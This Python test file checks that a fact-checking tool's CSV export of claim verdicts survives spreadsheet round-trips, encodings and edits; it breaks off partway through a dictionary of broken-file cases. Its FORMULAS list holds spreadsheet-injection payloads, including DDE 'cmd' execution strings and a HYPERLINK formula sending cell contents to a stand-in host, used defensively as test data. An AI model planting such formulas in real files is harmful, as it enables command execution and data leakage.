"""The CSV back from a spreadsheet: what was changed in it becomes events, and nothing else does."""

from __future__ import annotations

import codecs
import csv
import json
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpers import SHARED, article, case_of, decided, extraction, numbered, numbers, state
from secondsource import casefile, exporting
from secondsource.casefile import Case, Event
from secondsource.casefile.acts import returned
from secondsource.exporting import Release, guard, returning
from secondsource.exporting.cells import Likeness, compare, mended, words_of
from secondsource.exporting.table import open_table
from secondsource.model import SourceType, Terms, UnusableInput, Verdict

Rows = list[dict[str, str]]
STORY = "Ada Quill said: the ferry ran late.\nThe pier was closed.\na clerk said: nobody was hurt.\nThe bells rang."


@pytest.fixture
def case(tmp_path: Path) -> Iterator[Case]:
    with case_of(tmp_path / "case.db", STORY) as opened:
        yield opened


def uids(case: Case) -> list[str]:
    return [claim.claim for claim in casefile.claims(case)]


def export(case: Case, path: Path, **release: object) -> Rows:
    """Export a case and return the rows of the file."""
    exporting.write_file(Release(case, **release), "csv", path)  # type: ignore[arg-type]
    return read(path)


def read(path: Path) -> Rows:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def save(path: Path, rows: Rows, **dialect: object) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), **dialect)  # type: ignore[arg-type]
        writer.writeheader()
        writer.writerows(rows)
    return path


def bring(case: Case, path: Path, reviewer: str = "Ed", **options: object) -> returning.Returned:
    """Import a file as the command does."""
    found = returning.read_back(case, path, reviewer=reviewer, **options)  # type: ignore[arg-type]
    assert returning.record(case, found)
    return found


def told(events: list[Event]) -> list[tuple[str, str, str, str]]:
    """Kind, subject, actor and words of each event."""
    return [
        (e.kind, e.subject, e.actor, e.values.get("verdict") or e.values.get("rationale") or e.values.get("text", ""))
        for e in events
    ]


# What spreadsheets do


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., Path]:
    """LibreOffice, which opens a file and saves it in another format: its own profile, no window."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("LibreOffice is not installed here")
    profile = tmp_path_factory.mktemp("profile")

    def saved(path: Path, form: str = "csv", opened_as: str | None = None) -> Path:
        folder = path.parent / f"saved-{len(list(path.parent.iterdir()))}"
        command = [program, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
        command += [f"--infilter=CSV:{opened_as}"] if opened_as else []
        done = subprocess.run(
            [*command, "--convert-to", form, "--outdir", str(folder), str(path)],
            capture_output=True,
            timeout=300,
            check=False,
        )
        out = folder / f"{path.stem}.{form.split(':')[0]}"
        assert out.exists(), done.stderr.decode(errors="replace")
        return out

    return saved


FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1,2)", "=cmd|' /C calc'!A0",
    "+cmd|' /C x'!A0", "=IMPORTXML(\"http://a.example\",\"//a\")", "=DDE(\"a\",\"b\",\"c\")", "=1&1", "=TRUE()", "-1",
    "+A1", "@A1", "=\"\"", "=WEBSERVICE(\"http://a.example\")", "=SUM(A1:B2)*2", "=A1", "=-1", "=+1", "=@x", "==1",
    "=(1)", "=N/A",
)  # fmt: skip
DISGUISES = (
    "{}", "'{}", "''{}", "\"{}", "\u00a0{}", "\u200b{}", "\ufeff{}", "\u202e{}", "\u2060{}", "\x01{}", ";{}", "a;{}",
    "x,{}", "＝{}", "＋{}", "－{}", "＠{}", "{}\n{}", "\"{}\"", "\u3000{}", "%0A{}", "|{}",
)  # fmt: skip
VALUES = (
    "007", "00", "-0", "1e5", "1E5", "1e-5", "1E+3", "1e400", "1.5", "1,5", "1,234", "1.234.567", "1.0", "1.10", ".5",
    "5.", "12345678901234567890", "0.1234567890123456789", "0x1F", "1 234", "12\u00a0000", "12\u202f000", "\u22125",
    "１２３", "٣", "2021-06-29", "06/29/2021", "29.06.2021", "June 29, 2021", "29 Jun 2021", "1-2", "1/2", "½",
    "3-4-5", "12:30", "7:44", "2021-06-29T18:00:00.123Z", "2021-06-29T18:00", "2021-06-29 18:00", "may 2020",
    "Jan 12", "12 Jan", "10:00 AM", "24:00", "10 PM", "1:2:3", "TRUE", "true", "FALSE", "50%", "44.5%", "$5", "€5",
    "5 €", "£5", "(5)", "(1,000)", "NaN", "Inf", "#N/A", "#REF!", "#DIV/0!", "http://a.example/?b=c", "a@b.example",
    "'", "''", "'''", "\"", "\"\"", "=", "+", "-", "@", "'123", "'2021-06-29", "a\"b", "a;b", "a\tb", "a\nb",
    "a\n\n\nb", "a\u2028b", "a\u2029b", "a\x85b", "x\x01y", "x\x1b[2Jy", "a\x0bb", "\x7f", "שלום", "\u202eabc", "😀",
    "e\u0301", "\u00e9", "<b>&amp;</b>", "_x0041_", "a_x000A_b", "\ufffe", "█", "x" * 19_000, "open", "disputed",
    "a\rb", "a\r\nb", "+49 30 1234", "1st", "2nd place", "Q1 2021", "MARCH1", "SEPT2",
)  # fmt: skip


def hostile() -> list[str]:
    """More than five hundred texts that a spreadsheet might make something else of."""
    values = [*VALUES, *(how.format(formula, formula) for how in DISGUISES for formula in FORMULAS)]
    strings = SHARED / "hostile" / "blns.json"
    if strings.exists():
        values += json.loads(strings.read_text(encoding="utf-8"))
    return [value for value in dict.fromkeys(values) if value.strip()]


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Case, Path]]:
    """A case with a claim for each hostile value, which is its rationale, and its export."""
    values = hostile()
    folder = tmp_path_factory.mktemp("hostile")
    with case_of(folder / "case.db", numbered(len(values))) as case:
        for place, (number, value) in enumerate(zip(numbers(case), values, strict=True)):
            casefile.mark_all(case, [number], list(Verdict)[place % 3], reviewer="Ann", rationale=value)
        export(case, folder / "out.csv")
        yield case, folder / "out.csv"


AS_OPENED = "44,34,76,1"
AS_TEXT = "44,34,76,1,,0,true,false,false"
DETECTING = "44,34,76,1,,0,false,true,false"
GERMAN = "44,34,76,1,,1031,false,true,false"
COMMA = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"
SEMICOLON = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false"


def through(office: Callable[..., Path], path: Path, forms: list[str], opened_as: str | None) -> Path:
    """Open a file and save it in one form after another."""
    for form in forms:
        path = office(path, form, opened_as)
        opened_as = None
    return path


@pytest.mark.parametrize(
    ("forms", "opened_as"),
    [
        (["csv"], None),
        (["csv"], AS_TEXT),
        (["csv"], DETECTING),
        (["csv"], GERMAN),
        ([SEMICOLON], AS_OPENED),
        (["xlsx", COMMA], AS_OPENED),
    ],
    ids=["as it opens", "quoted as text", "detecting numbers", "German", "semicolons", "xlsx"],
)
def test_hundreds_of_hostile_values_survive_a_spreadsheet(
    exported: tuple[Case, Path], office: Callable[..., Path], forms: list[str], opened_as: str | None
) -> None:
    case, path = exported
    before = state(case)
    saved = through(office, path, forms, opened_as)
    assert saved.read_bytes() != path.read_bytes()
    assert len(hostile()) > 500
    assert bring(case, saved) == returning.Returned(casefile.tip(case), unchanged=len(hostile()))
    assert state(case) == before
    rationales = {claim.claim: claim.rationale or "" for claim in casefile.claims(case)}
    rows = list(open_table(saved, "claim").rows())
    assert len(rows) == len(rationales)
    for row in rows:
        was = rationales[row.cells["claim"]]
        assert words_of(row.cells["rationale"]) == was.replace("\r\n", "\n").replace("\r", "\n")
        assert row.cells["verdict"] in list(Verdict)


@pytest.mark.parametrize(
    ("forms", "opened_as"),
    [(["ods", COMMA], AS_OPENED), ([COMMA], None), (["xlsx", "csv"], AS_OPENED)],
    ids=["no control characters in .ods", "opened as cp1252 and saved as UTF-8", "saved as cp1252"],
)
def test_what_a_spreadsheet_loses_is_taken_for_no_change(
    exported: tuple[Case, Path], office: Callable[..., Path], forms: list[str], opened_as: str | None
) -> None:
    case, path = exported
    before = state(case)
    saved = through(office, path, forms, opened_as)
    lost = [row.cells["rationale"] for row in open_table(saved, "claim").rows()]
    assert any(cell != row["rationale"] for cell, row in zip(lost, read(path), strict=True))
    assert bring(case, saved) == returning.Returned(casefile.tip(case), unchanged=len(hostile()))
    assert state(case) == before


def test_without_the_guard_the_values_would_not_survive(tmp_path: Path, office: Callable[..., Path]) -> None:
    rows = [{"claim": str(place), "rationale": value} for place, value in enumerate(VALUES)]
    saved = office(save(tmp_path / "plain.csv", rows, quoting=csv.QUOTE_ALL), "csv", DETECTING)
    with saved.open(encoding="utf-8", newline="") as file:
        lost = [
            row for row, was in zip(csv.DictReader(file), rows, strict=True) if row["rationale"] != was["rationale"]
        ]
    assert len(lost) > 30


def test_what_is_changed_in_a_spreadsheet_becomes_exactly_those_events(
    tmp_path: Path, case: Case, office: Callable[..., Path]
) -> None:
    first, second, third, fourth = uids(case)
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="=1+1\n2021-06-29, as the log has it")
    casefile.mark(case, second, Verdict.UNVERIFIED, reviewer="Ann", rationale="007")
    casefile.mark(case, third, Verdict.CORROBORATED, reviewer="Bo", rationale="two clerks")
    export(case, tmp_path / "out.csv")
    before = decided(case)
    rows = read(office(tmp_path / "out.csv"))
    rows[0] |= {"verdict": " Corroborated ", "reviewer": "Cy Marl"}
    rows[1] |= {"rationale": "the register"}
    rows[3] |= {"verdict": "DISPUTED", "rationale": "rang twice"}
    for row in rows:
        row["note"] = "ask the sexton" if row is rows[3] else ""
    changed = office(save(tmp_path / "edited.csv", rows), "csv", None)
    found = bring(case, changed)
    assert not found.conflicts
    assert found.unchanged == 1
    assert told(decided(case)[len(before) :]) == [
        ("note", fourth, "Ed", "ask the sexton"),
        ("verdict", first, "Cy Marl", "corroborated"),
        ("rationale", second, "Ed", "the register"),
        ("verdict", fourth, "Ed", "disputed"),
    ]
    claims = {claim.claim: claim for claim in casefile.claims(case)}
    assert claims[first].rationale == "=1+1\n2021-06-29, as the log has it"
    assert (claims[fourth].rationale, claims[fourth].reviewer) == ("rang twice", "Ed")
    again = bring(case, changed)
    assert again == returning.Returned(casefile.tip(case), unchanged=4)
    assert not list(casefile.verify(case))


# What a cell may become


ANY = st.text(st.characters(codec="utf-8"))


@given(ANY)
def test_a_cell_that_says_the_value_is_the_same_and_gives_it_back(value: str) -> None:
    for cell in (value, guard(value), guard(value).replace("\n", "\r\n"), f" {guard(value)} "):
        assert compare(cell, value, exact=True) is Likeness.SAME
    stripped = value.strip().replace("\r\n", "\n").replace("\r", "\n").strip()
    assert words_of(guard(stripped)) == stripped


@given(ANY, ANY)
def test_other_words_are_a_change(value: str, other: str) -> None:
    assert compare(f"said {other} then", f"words {value}", exact=True) is Likeness.CHANGED


def test_masked_names_are_no_change_and_other_words_are() -> None:
    value = "Ada Quill told us on the pier"
    assert compare("███ █████ told us on the pier", value, exact=True) is Likeness.SAME
    assert compare("███ █████ told us on the quay", value, exact=True) is Likeness.CHANGED
    assert compare("█████ told us on the pier", value, exact=True) is Likeness.CHANGED


def test_what_an_encoding_lost_is_no_change_and_other_words_are() -> None:
    value = "Zoë said 😀 שלום, café"
    assert compare("Zoë said ?? ????, café", value, exact=False) is Likeness.SAME
    assert compare("Zoë said ?? ????, cafe", value, exact=False) is Likeness.SAME  # Excel picks the likest letter
    assert compare("Zoë says ?? ????, café", value, exact=False) is Likeness.CHANGED
    assert compare("Zoë said ?? ????, café", value, exact=True) is Likeness.CHANGED
    assert compare("seen?", "seen.", exact=False) is Likeness.CHANGED


def test_what_was_read_in_another_encoding_is_mended_where_the_value_has_it() -> None:
    value = "Zoë: «déjà vu» à"
    garbled = value.encode().decode("cp1252")
    assert "Zoë" not in garbled
    assert compare(garbled, value, exact=True) is Likeness.SAME
    assert mended(garbled.replace("vu", "entendu naïf É»"), value) == "Zoë: «déjà entendu naïf É»» à"
    assert mended("CAFÉ» Ã©", "café, CAFÉ» Ã©") == "CAFÉ» Ã©"


@pytest.mark.parametrize(
    ("value", "kept"), [("y" * 40_000, 32_767), ("😀" * 20_000, 8_192), ("word " * 20_000, 65_535)]
)
def test_a_value_that_is_cut_is_told_from_one_that_was_shortened(value: str, kept: int) -> None:
    assert compare(value[:kept], value, exact=True) is Likeness.CUT
    assert compare(value[:kept] + "\ufffd", value, exact=True) is Likeness.CUT
    assert compare(value[:100], value, exact=True) is Likeness.CHANGED
    assert compare("x" + value[: kept - 1], value, exact=True) is Likeness.CHANGED


def test_a_rationale_longer_than_a_cell_holds_is_whole_in_the_file_and_told_when_it_comes_back_cut(
    tmp_path: Path, case: Case, office: Callable[..., Path]
) -> None:
    first, *_ = uids(case)
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="😀" * 20_000)
    rows = export(case, tmp_path / "out.csv")
    assert rows[0]["rationale"] == "😀" * 20_000
    before = state(case)
    saved = through(office, tmp_path / "out.csv", ["xlsx", COMMA], AS_OPENED)
    found = bring(case, saved)
    assert [(one.number, one.claim) for one in found.told] == [(2, first)]
    assert "cut" in found.told[0].what
    assert state(case) == before


# Rows against the case


def test_an_export_that_nobody_changed_brings_nothing(tmp_path: Path, case: Case) -> None:
    casefile.mark(case, uids(case)[0], Verdict.DISPUTED, reviewer="Ann", rationale="no record of it")
    casefile.explain(case, uids(case)[1], "to be seen", reviewer="Bo")
    export(case, tmp_path / "out.csv")
    before = state(case)
    assert bring(case, tmp_path / "out.csv") == returning.Returned(casefile.tip(case), unchanged=4)
    assert state(case) == before


def test_an_old_export_that_nobody_changed_brings_nothing(tmp_path: Path, case: Case) -> None:
    first, second, *_ = uids(case)
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="no record of it")
    export(case, tmp_path / "out.csv")
    casefile.mark(case, first, Verdict.CORROBORATED, reviewer="Bo", rationale="the log")
    casefile.explain(case, first, "the log and the mate", reviewer="Bo")
    casefile.mark(case, second, Verdict.UNVERIFIED, reviewer="Bo")
    casefile.undo(case, reviewer="Bo")
    before = state(case)
    assert bring(case, tmp_path / "out.csv").unchanged == 4
    assert state(case) == before


def decide_again(case: Case, claim: str) -> None:
    casefile.mark(case, claim, Verdict.UNVERIFIED, reviewer="Ann", rationale="asked again")


def decide_the_same(case: Case, claim: str) -> None:
    casefile.mark(case, claim, Verdict.CORROBORATED, reviewer="Ann", rationale="the ship's log")


def rewrite(case: Case, claim: str) -> None:
    casefile.explain(case, claim, "rewritten in the case", reviewer="Ann")


def take_back(case: Case, claim: str) -> None:
    assert casefile.undo(case, reviewer="Ann").subject == claim


def nothing(case: Case, claim: str) -> None:
    casefile.note(case, claim, "a note is no decision", reviewer="Ann")


VERDICT = {"verdict": "corroborated"}
BOTH = {"verdict": "corroborated", "rationale": "the ship's log"}
REASON = {"rationale": "the ship's log"}


@pytest.mark.parametrize(
    ("since", "row", "comes"),
    [
        (nothing, {}, "nothing"),
        (nothing, VERDICT, "event"),
        (nothing, BOTH, "event"),
        (nothing, REASON, "event"),
        (decide_again, {}, "nothing"),
        (decide_again, VERDICT, "conflict"),
        (decide_again, BOTH, "conflict"),
        (decide_again, REASON, "conflict"),
        (decide_the_same, {}, "nothing"),
        (decide_the_same, VERDICT, "nothing"),
        (decide_the_same, BOTH, "nothing"),
        (decide_the_same, REASON, "nothing"),
        (decide_the_same, {**BOTH, "rationale": "the mate"}, "conflict"),
        (rewrite, {}, "nothing"),
        (rewrite, VERDICT, "conflict"),
        (rewrite, REASON, "conflict"),
        (rewrite, {"rationale": "rewritten in the case"}, "nothing"),
        (take_back, {}, "nothing"),
        (take_back, VERDICT, "conflict"),
        (take_back, REASON, "conflict"),
    ],
)
def test_a_row_and_the_case_that_both_changed_are_a_conflict(
    tmp_path: Path, case: Case, since: Callable[[Case, str], None], row: dict[str, str], comes: str
) -> None:
    first = uids(case)[0]
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="no record of it")
    rows = export(case, tmp_path / "out.csv")
    since(case, first)
    before = casefile.tip(case)
    rows[0] |= row
    found = bring(case, save(tmp_path / "edited.csv", rows))
    assert len(found.decisions) == (comes == "event")
    assert len(found.conflicts) == (comes == "conflict")
    assert found.unchanged == 3 + (comes == "nothing")
    assert (casefile.tip(case) != before) == (comes == "event")
    for conflict in found.conflicts:
        now = next(casefile.claims(case))
        assert (conflict.claim, conflict.number) == (first, 2)
        assert row.get("rationale", "no record of it") in conflict.row
        assert (now.rationale or "open") in conflict.case
    # A second time adds nothing.
    before = casefile.tip(case)
    assert bring(case, tmp_path / "edited.csv").conflicts == found.conflicts
    assert casefile.tip(case) == before


@pytest.mark.parametrize("other", ["disputed", "corroborated"])
def test_a_claim_that_was_open_and_was_marked_on_both_sides(tmp_path: Path, case: Case, other: str) -> None:
    first = uids(case)[0]
    rows = export(case, tmp_path / "out.csv")
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="no record of it")
    rows[0]["verdict"] = other
    found = bring(case, save(tmp_path / "edited.csv", rows))
    assert not found.decisions
    assert len(found.conflicts) == (other != "disputed")


def test_what_was_imported_and_decided_anew_is_neither_recorded_again_nor_a_conflict(
    tmp_path: Path, case: Case
) -> None:
    first = uids(case)[0]
    rows = export(case, tmp_path / "out.csv")
    rows[0] |= BOTH
    save(tmp_path / "edited.csv", rows)
    bring(case, tmp_path / "edited.csv")
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="on second thoughts")
    found = bring(case, tmp_path / "edited.csv")
    assert (found.decisions, found.conflicts, found.unchanged) == ([], [], 4)


def test_rationales_can_be_changed_round_after_round(tmp_path: Path, case: Case) -> None:
    first = uids(case)[0]
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann")
    casefile.explain(case, first, "typed after the verdict", reviewer="Ann")
    for words in ("one", "two", "three"):
        rows = export(case, tmp_path / "out.csv")
        rows[0]["rationale"] = words
        assert not bring(case, save(tmp_path / "edited.csv", rows)).conflicts
        assert next(casefile.claims(case)).rationale == words


def test_a_verdict_settles_a_conflict_that_was_exported(tmp_path: Path, case: Case) -> None:
    first = uids(case)[0]
    casefile.backup(case, tmp_path / "other.db")
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="no record")
    with casefile.open_case(tmp_path / "other.db") as other:
        casefile.mark(other, first, Verdict.CORROBORATED, reviewer="Bo", rationale="the log")
    casefile.merge(case, tmp_path / "other.db", reviewer="Ann")
    rows = export(case, tmp_path / "out.csv")
    assert (rows[0]["verdict"], rows[0]["decided_at"]) == ("", "")
    assert "conflicting verdicts" in rows[0]["findings"]
    assert bring(case, tmp_path / "out.csv").unchanged == 4
    rows[0]["verdict"] = "disputed"
    assert len(bring(case, save(tmp_path / "edited.csv", rows)).decisions) == 1
    now = next(casefile.claims(case))
    assert (now.verdict, now.reviewer, now.findings) == (Verdict.DISPUTED, "Ed", ())


def test_emptied_cells_and_a_changed_name_are_listed_and_change_nothing(tmp_path: Path, case: Case) -> None:
    for claim in uids(case):
        casefile.mark(case, claim, Verdict.DISPUTED, reviewer="Ann", rationale="no record of it")
    rows = export(case, tmp_path / "out.csv")
    rows[0]["verdict"] = "open"
    rows[1]["verdict"] = "  "
    rows[2]["rationale"] = ""
    rows[3]["reviewer"] = "Bo"
    before = state(case)
    found = bring(case, save(tmp_path / "edited.csv", rows))
    assert [one.number for one in found.told] == [2, 3, 4, 5]
    for one, word in zip(
        found.told, ("verdict was emptied", "verdict was emptied", "rationale", "reviewer"), strict=True
    ):
        assert word in one.what
    assert (found.conflicts, found.unchanged) == ([], 4)
    assert state(case) == before


def test_a_note_is_recorded_once(tmp_path: Path, case: Case) -> None:
    rows = export(case, tmp_path / "out.csv")
    for row in rows:
        row["note"] = ""
    rows[1] |= {"note": "=ask\r\nthe mate", "reviewer": "Bo"}
    path = save(tmp_path / "edited.csv", rows)
    bring(case, path)
    bring(case, path)
    assert told(decided(case)) == [("note", uids(case)[1], "Bo", "=ask\nthe mate")]
    rows[1]["note"] = "ask the cook"
    bring(case, save(path, rows))
    assert [event.values["text"] for event in decided(case)] == ["=ask\nthe mate", "ask the cook"]


def test_columns_are_found_by_name_and_others_are_ignored(tmp_path: Path, case: Case) -> None:
    first, second, third, _ = uids(case)
    casefile.mark(case, third, Verdict.DISPUTED, reviewer="Ann", rationale="no record")
    rows = [
        {"Mine": "x", " VERDICT ": "disputed", "Claim": f" {first.upper()} ", "": ""},
        {"Mine": "y", " VERDICT ": "", "Claim": second, "": "extra"},
        {"Mine": "", " VERDICT ": "unverified", "Claim": third, "": ""},
        {"Mine": "", " VERDICT ": "", "Claim": "", "": ""},
    ]
    path = save(tmp_path / "edited.csv", rows)
    found = bring(case, path)
    assert told(decided(case))[1:] == [("verdict", first, "Ed", "disputed"), ("verdict", third, "Ed", "unverified")]
    assert found.unchanged == 1
    # Without decided_at, what the case said before is no wish to go back to it.
    casefile.mark(case, first, Verdict.CORROBORATED, reviewer="Ann")
    assert [one.claim for one in bring(case, path).conflicts] == [first]


def test_a_verdict_from_a_time_that_the_case_does_not_know(tmp_path: Path, case: Case) -> None:
    first, second, *_ = uids(case)
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Ann", rationale="no record")
    rows = export(case, tmp_path / "out.csv")
    rows[0] |= {**BOTH, "decided_at": "2021-07-01"}
    rows[1] |= {**BOTH, "decided_at": "2021-07-01", "reviewer": "Bo"}
    found = bring(case, save(tmp_path / "edited.csv", rows))
    assert [one.claim for one in found.conflicts] == [first]
    assert "2021-07-01" in found.conflicts[0].why
    assert told(decided(case))[1:] == [("verdict", second, "Bo", "corroborated")]


def test_an_article_that_was_changed_since_the_export(tmp_path: Path, case: Case) -> None:
    first, second, *_ = uids(case)
    rows = [{**row, "note": ""} for row in export(case, tmp_path / "out.csv")]
    text = STORY.replace("the ferry ran late", "nobody knows where the ferry was")
    casefile.add_article(case, article(text, "article-1"), extraction(text))
    new = {claim.text: claim.claim for claim in casefile.claims(case)}
    assert not {first, second} & set(new.values())
    assert bring(case, save(tmp_path / "same.csv", rows)).unchanged == 4
    rows[0] |= {**VERDICT, "note": "look again"}
    rows[1] |= {**BOTH, "note": "so it was"}
    found = bring(case, save(tmp_path / "edited.csv", rows))
    (conflict,) = found.conflicts
    assert (conflict.claim, "replaced" in conflict.why) == (first, True)
    there = new["The pier was closed."]
    assert told(decided(case)) == [("note", there, "Ed", "so it was"), ("verdict", there, "Ed", "corroborated")]
    both = [{"claim": claim, "verdict": verdict} for claim, verdict in ((second, "disputed"), (there, "unverified"))]
    found = bring(case, save(tmp_path / "both.csv", both))
    assert len(found.decisions) == 1
    assert [one.number for one in found.conflicts] == [3]


# Redacted


@pytest.fixture
def protected(tmp_path: Path) -> Iterator[Case]:
    with case_of(tmp_path / "case.db", STORY) as case:
        first = next(casefile.claims(case))
        casefile.mark(
            case, first.claim, Verdict.DISPUTED, reviewer="Ann", rationale="Ada Quill has it from Quill's mate"
        )
        key = next(casefile.claims_in(case, casefile.article_of(numbers(case)[0]))).source_key
        assert key is not None
        casefile.rename_source(
            case,
            key,
            reviewer="Ann",
            name="Ada Quill",
            type=SourceType.NAMED,
            role=None,
            affiliation=None,
            terms=Terms.BACKGROUND,
        )
        yield case


def test_masked_rationales_are_unchanged_and_never_take_the_place_of_the_words(tmp_path: Path, protected: Case) -> None:
    first = uids(protected)[0]
    rows = export(protected, tmp_path / "out.csv")
    assert "Quill" not in (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert "█" in rows[0]["rationale"]
    before = state(protected)
    assert bring(protected, tmp_path / "out.csv").unchanged == 4
    assert state(protected) == before
    rows[0]["rationale"] += " and more"
    found = bring(protected, save(tmp_path / "edited.csv", rows))
    assert "masked" in found.conflicts[0].why
    assert state(protected) == before
    rows = export(protected, tmp_path / "out.csv")
    rows[0]["verdict"] = "unverified"
    bring(protected, save(tmp_path / "edited.csv", rows))
    now = next(casefile.claims(protected))
    assert (now.claim, now.verdict, now.rationale) == (first, Verdict.UNVERIFIED, "Ada Quill has it from Quill's mate")
    # A file from before the source was protected is no change either.
    export(protected, tmp_path / "all.csv", include=["Ada Quill"])
    assert bring(protected, tmp_path / "all.csv").unchanged == 4


# One transaction


def test_a_fault_in_the_last_row_leaves_the_log_as_it_was(
    tmp_path: Path, case: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = export(case, tmp_path / "out.csv")
    for row in rows:
        row |= BOTH
    rows[-1]["rationale"] = "x" * 20_001
    before = state(case)
    with pytest.raises(UnusableInput, match="row 5: a rationale has at most 20,000 characters"):
        bring(case, save(tmp_path / "edited.csv", rows))
    rows[-1] |= {"rationale": "x", "reviewer": "a\nb"}
    with pytest.raises(UnusableInput, match="row 5: a reviewer's name is one line"):
        bring(case, save(tmp_path / "edited.csv", rows))
    rows[-1]["reviewer"] = ""
    found = returning.read_back(case, save(tmp_path / "edited.csv", rows), reviewer="Ed")
    decide_over, calls = returned.decide_over, []

    def failing(*arguments: object, **named: object) -> Event:
        calls.append(arguments)
        if len(calls) == 4:
            raise OSError(28, "No space left on device")
        return decide_over(*arguments, **named)  # type: ignore[arg-type]

    monkeypatch.setattr(returned, "decide_over", failing)
    with pytest.raises(UnusableInput):
        returning.record(case, found)
    assert len(calls) == 4
    assert state(case) == before
    monkeypatch.undo()
    assert returning.record(case, found)
    assert len(decided(case)) == 4


def test_nothing_is_recorded_over_what_was_decided_while_the_file_was_read(tmp_path: Path, case: Case) -> None:
    rows = export(case, tmp_path / "out.csv")
    rows[0] |= BOTH
    found = returning.read_back(case, save(tmp_path / "edited.csv", rows), reviewer="Ed")
    casefile.mark(case, uids(case)[0], Verdict.DISPUTED, reviewer="Ann")
    before = state(case)
    assert not returning.record(case, found)
    assert state(case) == before


def test_one_undo_takes_the_verdicts_of_an_import_back(tmp_path: Path, case: Case) -> None:
    rows = export(case, tmp_path / "out.csv")
    for row in rows:
        row |= {**BOTH, "note": "seen"}
    bring(case, save(tmp_path / "edited.csv", rows))
    assert casefile.progress(case).decided == 4
    assert casefile.undo(case, reviewer="Ed").count == 4
    assert casefile.progress(case).decided == 0


# Files


def encoded(path: Path, text: str, encoding: str, start: bytes = b"") -> Path:
    path.write_bytes(start + text.encode(encoding))
    return path


@pytest.mark.parametrize(
    ("delimiter", "encoding", "start"),
    [
        (",", "utf-8", b""),
        (",", "utf-8", codecs.BOM_UTF8),
        (";", "utf-8", codecs.BOM_UTF8),
        (";", "cp1252", b""),
        ("\t", "utf-16-le", codecs.BOM_UTF16_LE),
        ("\t", "utf-16-be", codecs.BOM_UTF16_BE),
        (",", "utf-16-le", b""),
        ("|", "utf-8", b""),
    ],
)
@pytest.mark.parametrize("line_end", ["\r\n", "\n", "\r"])
def test_delimiters_encodings_and_line_ends_of_spreadsheets(
    tmp_path: Path, case: Case, delimiter: str, encoding: str, start: bytes, line_end: str
) -> None:
    first, second, *_ = uids(case)
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Zoë", rationale="café, „so“; it's said")
    rows = export(case, tmp_path / "out.csv")
    rows[1] |= {"verdict": "unverified", "rationale": "à la carte"}
    save(tmp_path / "edited.csv", rows, delimiter=delimiter, lineterminator=line_end)
    text = (tmp_path / "edited.csv").read_bytes().decode()
    found = bring(case, encoded(tmp_path / "encoded.csv", text, encoding, start))
    assert told(decided(case))[1:] == [("verdict", second, "Ed", "unverified")]
    assert found.unchanged == 3
    assert list(casefile.claims(case))[1].rationale == "à la carte"


def test_a_line_that_names_the_delimiter_is_read(tmp_path: Path, case: Case) -> None:
    path = tmp_path / "edited.csv"
    path.write_text(f"sep=;\r\nclaim;verdict\r\n{uids(case)[0]};disputed\r\n")
    assert len(bring(case, path).decisions) == 1


def test_what_an_8_bit_encoding_lost_is_never_recorded(tmp_path: Path, case: Case) -> None:
    first = uids(case)[0]
    casefile.mark(case, first, Verdict.DISPUTED, reviewer="Łucja", rationale="שלום: not seen 😀")
    rows = export(case, tmp_path / "out.csv")
    save(tmp_path / "edited.csv", rows)
    lost = (tmp_path / "edited.csv").read_text(encoding="utf-8").replace("😀", "??")
    path = tmp_path / "ansi.csv"
    path.write_bytes(lost.replace("not", "n\u00f6t", 0).encode("cp1252", "replace") + b"\xe9,,,,,,,,,,,,,,,,,,\r\n")
    with pytest.raises(UnusableInput, match="rows that are of no claim"):
        bring(case, path)
    assert bring(case, path, skip_unknown=True).unchanged == 4
    rows[0]["rationale"] = "????: seen ??"
    save(path, rows)
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252", "replace") + b"\xe9,,,,,,,,,,,,,,,,,,\r\n")
    found = bring(case, path, skip_unknown=True)
    assert [one.claim for one in found.conflicts] == [first]
    assert "cp1252" in found.conflicts[0].why
    assert len(decided(case)) == 1
    rows = export(case, tmp_path / "out.csv")
    rows[1] |= {"verdict": "disputed", "rationale": "не видели"}
    save(path, rows)
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1251", "replace"))
    bring(case, path, encoding="windows-1251")
    assert list(casefile.claims(case))[1].rationale == "не видели"


HEADER = "claim,verdict,rationale\n"
BROKEN = {
    "empty": (b"", "is empty"),
    "no claim": (b"id,verdict\nx,disputed\n", "has no column 'claim'"),
    "only claim": (b"claim,text\nx,y\n", "none of the columns verdict, rationale and note"),
    "two columns": (b"claim,verdict,Verdict \nx,disputed,open\n", "two columns 'verdict'"),
    "xlsx": (b"PK\x03\x04\x14\x00\x06\x00", "an .xlsx or .ods file; save it as CSV"),
    "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an .xls file; save it as CSV"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3", "is a PDF"),
    "NUL": (HEADER.encode() + b"ID0,disputed,a\0b\n", "NUL"),
    "open quote": (HEADER.encode() + b'ID0,disputed,"no end\nID1,disputed,x\n', "is broken after row 1"),
